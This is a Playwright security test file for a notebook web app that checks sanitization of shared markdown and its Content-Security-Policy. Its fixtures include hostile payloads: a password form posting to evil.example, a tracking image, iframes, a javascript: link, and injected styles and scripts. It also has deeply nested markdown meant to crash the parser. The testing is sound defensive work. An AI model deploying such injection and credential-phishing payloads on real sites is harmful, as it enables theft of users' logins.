import { expect, test, type Page } from '@playwright/test';
import { defaultCells, type Cell } from '../../src/lib/notebook/cells';
import { scenario, testLibrary } from '../notebook/fixtures';
import { collectErrors, linkTo, settled } from './pages';

/** Hostile input: what a share link's narrative may try to put into the page, and what the page's policy refuses. */

const hostileMarkdown = [
	'Notes <style>body{background:#fee}</style>',
	'',
	'<form action="https://evil.example/x" method="post"><input type=password name=p><button>Sign in</button></form>',
	'',
	'![t](https://evil.example/t.png) and a [source](https://example.org/report) and a [trap](javascript:alert(1))',
	'',
	'<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><p style="position:fixed;inset:0">cover</p>',
	'',
	'| a | b |',
	'| --- | --- |',
	'| 1 | 2 |'
].join('\n');

/** A share link to the baseline notebook with narrative cells of the given texts after the defaults. */
async function linkWithNarratives(...markdowns: string[]): Promise<string> {
	const baseline = scenario('baseline');
	const cells: Cell[] = defaultCells(baseline, [...testLibrary().keys()]);
	markdowns.forEach((markdown, i) => cells.push({ kind: 'narrative', id: `cell-${90 + i}`, collapsed: false, markdown }));
	return linkTo({ scenario: { id: 'baseline', values: {} }, seed: baseline.seed, paths: 1_000, cells });
}

/** Every request the page makes to another origin (aborted, so nothing leaves the machine). */
async function outsideRequests(page: Page): Promise<string[]> {
	const outside: string[] = [];
	await page.route('**/*', (route) => {
		const url = new URL(route.request().url());
		if ((url.protocol === 'http:' || url.protocol === 'https:') && url.hostname !== '127.0.0.1' && url.hostname !== 'localhost') {
			outside.push(url.href);
			return route.abort('blockedbyclient');
		}
		return route.continue();
	});
	return outside;
}

test('a share link cannot put a form, page styles or an external image into the narrative', async ({ page }) => {
	const errors = collectErrors(page);
	const outside = await outsideRequests(page);
	const response = await page.goto(await linkWithNarratives(hostileMarkdown));
	const narrative = page.locator('[data-testid="narrative"]').filter({ hasText: 'Notes' });
	await expect(narrative).toBeVisible();

	await expect(narrative.locator('form, input, button, textarea, select, style, iframe, object, embed, script, [style]')).toHaveCount(0);
	await expect(page.locator('style').filter({ hasText: '#fee' })).toHaveCount(0);
	expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(255, 238, 238)');
	// The external image is gone, its alt text left in its place; markdown's own elements stay.
	await expect(narrative.locator('img')).toHaveCount(0);
	await expect(narrative).toContainText('t and a source');
	await expect(narrative.locator('table td')).toHaveCount(2);
	const link = narrative.getByRole('link', { name: 'source' });
	await expect(link).toHaveAttribute('href', 'https://example.org/report');
	await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
	await expect(narrative.getByText('trap')).not.toHaveAttribute('href', /javascript/);

	// The page's own policy: in the response header and in the page.
	const header = response!.headers()['content-security-policy'];
	for (const directive of [
		"default-src 'self'",
		"img-src 'self' data: blob:",
		"form-action 'none'",
		"base-uri 'none'",
		"object-src 'none'",
		"frame-ancestors 'none'"
	]) {
		expect(header).toContain(directive);
	}
	expect(header).toMatch(/script-src 'self' 'sha256-[^']+'/);
	const meta = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
	expect(meta).toContain("form-action 'none'");
	expect(meta).toMatch(/script-src 'self' 'sha256-[^']+'/);

	// …and under it the notebook still works: workers run, Plotly draws.
	const fingerprint = await settled(page);
	await page.locator('[data-testid="fan-chart-shortfall"]').scrollIntoViewIfNeeded();
	await expect(page.locator('[data-testid="fan-chart-shortfall"]')).toHaveAttribute('data-drawn', `full:${fingerprint}`);
	await page.locator('[data-testid="comparison-chinaExports"]').scrollIntoViewIfNeeded();
	await expect(page.locator('[data-testid="comparison-chinaExports"]')).toHaveAttribute('data-drawn', new RegExp(`^${fingerprint}:`));
	expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
	expect(outside).toEqual([]);
	expect(errors).toEqual([]);
});

test('narratives nested thousands deep render with a note instead of crashing the page', async ({ page }) => {
	const errors = collectErrors(page);
	await page.goto(
		await linkWithNarratives('>'.repeat(1_900) + ' deep quote', '1. '.repeat(1_200) + 'deep item', '**'.repeat(2_500) + 'deep emphasis' + '**'.repeat(2_500))
	);
	await expect(page.getByTestId('narrative').filter({ hasText: 'deep quote' })).toContainText('Nesting deeper than 20 levels was flattened.');
	await expect(page.getByTestId('narrative').filter({ hasText: 'deep item' })).toContainText('Nesting deeper than 20 levels was flattened.');
	await expect(page.getByTestId('narrative').filter({ hasText: 'deep emphasis' })).toContainText('shown as plain text');
	expect(
		await page
			.getByTestId('narrative')
			.filter({ hasText: 'deep quote' })
			.evaluate((element) => element.querySelectorAll('blockquote').length)
	).toBeLessThanOrEqual(20);
	await settled(page);
	expect(errors).toEqual([]);
});

test('the policy refuses external images, form posts and injected scripts even if markup gets through', async ({ page }) => {
	const outside = await outsideRequests(page);
	await page.goto('/');
	await settled(page);
	const violations = await page.evaluate(async () => {
		const expected = ['img-src', 'form-action', 'script-src-elem'];
		const seen: string[] = [];
		// Reports arrive in their own time (a form post's later on a busy machine): wait for all three, at most 10 s.
		const allSeen = new Promise((resolve) => {
			document.addEventListener('securitypolicyviolation', (event) => {
				seen.push(event.effectiveDirective);
				if (expected.every((directive) => seen.includes(directive))) resolve(undefined);
			});
			setTimeout(resolve, 10_000);
		});
		const image = new Image();
		image.src = 'https://evil.example/pixel.png';
		document.body.append(image);
		const form = document.createElement('form');
		form.action = 'https://evil.example/x';
		form.method = 'post';
		form.target = '_blank';
		document.body.append(form);
		form.submit();
		const script = document.createElement('script');
		script.textContent = 'window.injected = 1';
		document.body.append(script);
		await allSeen;
		return { seen, injected: (window as unknown as { injected?: number }).injected };
	});
	expect(violations.injected).toBeUndefined();
	expect(violations.seen).toEqual(expect.arrayContaining(['img-src', 'form-action', 'script-src-elem']));
	expect(outside).toEqual([]);
});
